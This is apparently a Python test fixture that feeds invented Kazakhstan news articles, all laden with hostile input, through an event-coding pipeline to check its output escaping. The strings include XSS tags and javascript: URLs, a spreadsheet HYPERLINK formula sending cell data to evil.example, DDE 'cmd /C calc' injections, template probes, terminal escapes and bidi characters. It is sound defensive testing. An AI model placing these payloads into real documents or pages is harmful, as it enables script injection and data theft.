"""A ledger of invented articles whose names, titles and words all try to be something else than text, read and coded as any."""

from __future__ import annotations

import hashlib
from datetime import UTC, datetime

from foreshock import pipeline
from foreshock.ledger import Ledger
from foreshock.ledger.watches import Watches
from foreshock.model import Alert, Channel, Crisis, Custody, Document, Judgement, Trigger, Watch, record_id
from tests.alerts import no_vectors

NOW = datetime(2022, 1, 12, 8, tzinfo=UTC)
# An element, or an attribute, of this name on a page came out of a text.
NAME = "oops"
SCRIPT = "<script oops>window.oops=1</script>"
IMAGE = "<img src=x oops onerror=window.oops=1>"
BREAK = f"\"'></textarea></title></script></style>--><svg oops onload=window.oops=1>{IMAGE}"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"look")'
COMMAND = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
TURNED = "\u202eliveD\u202c"
UNSEEN = "zero\u200bwidth\u2060\ufeff\U000e0041\u2066lost"
SCREEN = "\x1b[2J\x1b]0;oops\x07\x9b31m"
TEMPLATE = "{{7*7}}${7*7}{%oops%}<%=7*7%>#let oops = 1;#panic(1)"
LONG = "Gbr" * 2_000
NULLS = "nul\x00l\u2400\\0%00&#0;"
PLACE = "in Almaty on Friday"
# One article each: its outlet, title, address and words. Every sentence is one that the coder reads.
ARTICLES = (
    (f"{SCRIPT} Gazette", BREAK, "javascript:window.oops=1", (
        f"The {SCRIPT} ministry said that police killed 12 people {PLACE}.",
        f"President {IMAGE} declared a state of emergency in Almaty.",
    )),
    (FORMULA, FORMULA, "data:text/html,<script>window.oops=1</script>", (
        f"The Ministry of {SCRIPT} denied that police killed 12 people {PLACE}.",
        f"The Interior Ministry said that the {FORMULA} militia killed 31 people {PLACE}.",
    )),
    (COMMAND, f"\t{COMMAND}", "https://gazette.example/\"onmouseover=window.oops=1 oops='<b oops>", (
        f"The {IMAGE} union said that police killed 40 people {PLACE}.",
        f"The Free {SCRIPT} Army killed 4 soldiers {PLACE}, the Interior Ministry said.",
    )),
    (SUM, SUM, " \x01javascript:window.oops=1", (
        f"Spokesman {TURNED} Testov said that soldiers wounded 9 protesters {PLACE}.",
        "The Ze\u200bro Front said that police detained 70 people in Almaty on Thursday.",
    )),
    (f"{TURNED} {UNSEEN}", f"{TURNED} {UNSEEN}", "vbscript:oops", (
        f"The {UNSEEN} party said that gunmen of {IMAGE} killed 7 people in Aktobe on Thursday.",
        f"The government imposed a curfew in the village of {IMAGE}, the Interior Ministry said.",
    )),
    (f"{SCREEN} Post", f"{SCREEN} {NULLS}", "https://post.example/\x1b[2J\u202e", (
        f"The {SCREEN} movement said that police killed 12 people {PLACE}.",
        f"{TEMPLATE} {NULLS}",
    )),
    (TEMPLATE, TEMPLATE, "https://user:secret@template.example/{{7*7}}", (
        "The #let x = 1 ministry said that soldiers killed 3 miners in Karaganda on Thursday.",
        f"{LONG} {BREAK}",
    )),
    (LONG, LONG, f"https://long.example/{LONG}", (
        f"The {LONG} council said that police killed 2 people in Shymkent on Thursday.",
        f"{SCREEN}{UNSEEN}{TURNED}",
    )),
)  # fmt: skip


def article(source: str, title: str, url: str, text: str) -> Document:
    """Return an article as a source gives it."""
    data = text.encode("utf-8")
    custody = Custody(hashlib.sha256(data).hexdigest(), len(data), "2022-01-08T09:00:00Z", url)
    return Document(
        record_id("document", source), record_id("version", title, text), source, url, "en", title, text, "2022-01-08", "given",
        "2022-01-08T09:00:00Z", "text/plain", custody,
    )  # fmt: skip


def fill(ledger: Ledger, bench: pipeline.Workbench) -> list[Alert]:
    """Read, code, keep and join the articles; keep a crisis, a feed, a watch and a decision of hostile names; return alerts."""
    ledger.keep_crisis(Crisis(f"{BREAK}{FORMULA}", countries=("KAZ",)), NOW)
    for source, title, url, sentences in ARTICLES:
        pipeline.keep(article(source, title, url, "\n\n".join(sentences)), bench, ledger, now=NOW, coder="rules")
    for _ in pipeline.join(ledger, vectors=no_vectors):
        pass
    watch = Watch(
        f"{BREAK}{TURNED}", (Trigger("dispute"), Trigger("incident"), Trigger("condition")), channels=(Channel("atom"),)
    )
    Watches(ledger).keep(watch, now=NOW)
    first = next(iter(ledger.claims()))
    pipeline.judge(
        ledger,
        Judgement(record_id("judgement", 1), "claim", "confirm", (first.id,), f"{SCRIPT}{TURNED}", "2022-01-12T08:00:00Z", BREAK),
    )
    return list(pipeline.raise_alerts(ledger, bench, now=NOW, backfill=True))
